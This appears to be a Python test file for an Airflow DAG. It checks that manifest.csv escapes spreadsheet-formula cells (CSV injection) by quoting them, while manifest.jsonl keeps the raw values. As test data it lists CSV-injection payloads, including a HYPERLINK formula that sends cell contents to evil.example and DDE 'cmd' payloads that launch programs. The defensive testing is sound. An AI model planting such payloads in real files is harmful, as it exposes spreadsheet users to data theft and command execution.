"""Issue 5 item 7: manifest.csv neutralises cells a spreadsheet would run as formulas (CSV injection).

The hostile cells come from the prompt CSV (prompt, id and metadata columns) and go through a real
DAG run (`airflow dags test`); manifest.csv is read back with the csv module, as a spreadsheet
would split it. manifest.jsonl keeps the raw values (it is the lossless form).
"""

from __future__ import annotations

from pathlib import Path

from security_helpers import write_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def test_manifest_csv_cells_never_start_a_formula(run_dag, tmp_path: Path) -> None:
    rows = [
        {"id": "=row-formula", "prompt": HOSTILE[0], "team": HOSTILE[1], "owner": "\tTAB=1+1", "cost": "-5"},
        {"id": "+row-plus", "prompt": "a quiet harbour at dawn", "team": HOSTILE[2], "owner": "\rCR=1+1",
         "cost": "@x"},
        {"id": "@row-at", "prompt": "-a minus prompt", "team": HOSTILE[3], "owner": "=2+2", "cost": "+7"},
        {"id": "-row-minus", "prompt": "@an at prompt", "team": "plain", "owner": "ok", "cost": HOSTILE[4]},
    ]  # fmt: skip
    result = run_dag(write_csv(tmp_path / "prompts.csv", rows))
    assert result.returncode == 0, result.output[-4000:]

    table = result.manifest_csv()
    header, body = table[0], table[1:]
    assert len(body) == len(rows)
    for line in table:
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), (line[0], cell)

    raw = {r["row_id"]: r for r in result.manifest}  # the lossless form keeps the values as given
    assert set(raw) == {r["id"] for r in rows}
    assert {r["status"] for r in raw.values()} == {"succeeded"}, [(r["row_id"], r["reason"]) for r in raw.values()]
    col = {name: i for i, name in enumerate(header)}
    checked = 0
    for line in body:
        jsonl = raw[line[col["row_id"]][1:]]  # every id here starts with a formula character
        fields = {"row_id": jsonl["row_id"], "prompt": jsonl["prompt"],
                  **{f"meta_{k}": v for k, v in jsonl["metadata"].items()}}  # fmt: skip
        for name, value in fields.items():
            cell = line[col[name]]
            if value.startswith(FORMULA_STARTS):
                assert cell == "'" + value, (name, value, cell)
                checked += 1
            else:
                assert cell == value, (name, value, cell)
    # Every hostile value that reached the manifest (the reader trims whitespace, so leading tab/CR may
    # not) was neutralised: ids, prompts and metadata across all four formula characters.
    assert checked >= 14, checked
    assert {v[0] for r in raw.values() for v in (r["row_id"], r["prompt"], *r["metadata"].values())} >= set("=+-@")
